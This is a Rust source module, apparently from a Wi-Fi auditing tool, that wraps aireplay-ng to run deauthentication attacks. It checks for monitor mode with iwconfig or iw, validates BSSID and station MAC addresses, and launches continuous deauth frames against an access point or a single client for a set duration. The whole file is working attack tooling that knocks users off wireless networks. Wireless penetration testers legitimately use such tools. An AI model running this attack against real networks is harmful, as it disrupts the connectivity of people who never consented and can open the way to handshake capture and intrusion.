//! Deauthentication through `aireplay-ng`.

use std::time::Duration;

use serde::Serialize;
use tracing::{debug, info, warn};

use crate::cancel::CancellationToken;
use crate::domain::parse_mac;
use crate::error::{Error, Result};
use crate::process::{run_bounded, ToolCommand};

pub(crate) const AIREPLAY: &str = "aireplay-ng";
pub(crate) const IWCONFIG: &str = "iwconfig";
pub(crate) const IW: &str = "iw";

/// Guidance shown when the interface is not in monitor mode.
pub const MONITOR_MODE_HINT: &str = "Enable monitor mode with: sudo airmon-ng start wlan0";

/// Target of a deauthentication attack.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct DeauthRequest {
    /// Access point to spoof.
    pub bssid: String,
    /// Single client to disconnect; broadcast when `None`.
    pub station: Option<String>,
    pub duration: Duration,
}

/// How an attack ended.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct DeauthSummary {
    pub bssid: String,
    pub station: Option<String>,
    pub elapsed: Duration,
    /// Stopped by cancellation before the duration elapsed.
    pub interrupted: bool,
    /// The tool exited on its own before it was stopped.
    pub exited_early: bool,
}

/// Whether `iwconfig` output reports monitor mode.
pub fn iwconfig_reports_monitor(output: &str) -> bool {
    output.contains("Mode:Monitor")
}

/// Whether `iw dev <iface> info` output reports monitor mode.
pub fn iw_reports_monitor(output: &str) -> bool {
    output.lines().any(|line| line.trim() == "type monitor")
}

/// Check that `interface` is in monitor mode.
///
/// Uses `iwconfig` and falls back to `iw` when `iwconfig` is not installed.
pub async fn ensure_monitor_mode(interface: &str) -> Result<()> {
    check_monitor_mode(IWCONFIG, IW, interface).await
}

async fn check_monitor_mode(iwconfig: &str, iw: &str, interface: &str) -> Result<()> {
    let not_monitor = || {
        Error::Precondition(format!(
            "{} is not in monitor mode. {}",
            interface, MONITOR_MODE_HINT
        ))
    };

    match ToolCommand::new(iwconfig).arg(interface).output().await {
        Ok(output) => {
            if iwconfig_reports_monitor(&String::from_utf8_lossy(&output.stdout)) {
                return Ok(());
            }
            return Err(not_monitor());
        }
        Err(Error::ToolNotFound(_)) => debug!("iwconfig not found, trying iw"),
        Err(e) => return Err(e),
    }

    let output = ToolCommand::new(iw)
        .args(["dev", interface, "info"])
        .output()
        .await
        .map_err(|e| match e {
            Error::ToolNotFound(_) => Error::Precondition(format!(
                "Cannot check monitor mode: neither iwconfig nor iw is installed. {}",
                MONITOR_MODE_HINT
            )),
            other => other,
        })?;

    if iw_reports_monitor(&String::from_utf8_lossy(&output.stdout)) {
        Ok(())
    } else {
        Err(not_monitor())
    }
}

/// Deauthentication attacker bound to one monitor-mode interface.
#[derive(Debug, Clone)]
pub struct Aireplay {
    interface: String,
    sudo: bool,
    program: String,
    iwconfig: String,
    iw: String,
}

impl Aireplay {
    pub fn new(interface: impl Into<String>, sudo: bool) -> Self {
        Self {
            interface: interface.into(),
            sudo,
            program: AIREPLAY.to_string(),
            iwconfig: IWCONFIG.to_string(),
            iw: IW.to_string(),
        }
    }

    /// Use another binary in place of `aireplay-ng`.
    pub fn with_program(mut self, program: impl Into<String>) -> Self {
        self.program = program.into();
        self
    }

    /// Use other binaries for the monitor-mode check.
    pub fn with_mode_check(mut self, iwconfig: impl Into<String>, iw: impl Into<String>) -> Self {
        self.iwconfig = iwconfig.into();
        self.iw = iw.into();
        self
    }

    /// Build the attack command after validating both addresses.
    pub fn command(&self, request: &DeauthRequest) -> Result<ToolCommand> {
        let bssid = parse_mac(&request.bssid)?;
        let mut command = ToolCommand::new(&self.program)
            .args(["--deauth", "0", "-a"])
            .arg(bssid)
            .sudo(self.sudo);
        if let Some(ref station) = request.station {
            command = command.arg("-c").arg(parse_mac(station)?);
        }
        Ok(command.arg(&self.interface))
    }

    /// Run the attack. Nothing is launched if an address is invalid or the
    /// interface is not in monitor mode.
    pub async fn deauth(
        &self,
        request: &DeauthRequest,
        cancel: &CancellationToken,
    ) -> Result<DeauthSummary> {
        let command = self.command(request)?;
        check_monitor_mode(&self.iwconfig, &self.iw, &self.interface).await?;

        info!(bssid = %request.bssid, station = ?request.station, "Starting deauthentication");
        let run = run_bounded(&command, request.duration, cancel).await?;
        if run.exited_early {
            warn!("aireplay-ng exited before the attack duration elapsed");
        }

        Ok(DeauthSummary {
            bssid: request.bssid.clone(),
            station: request.station.clone(),
            elapsed: run.elapsed,
            interrupted: run.interrupted,
            exited_early: run.exited_early,
        })
    }
}
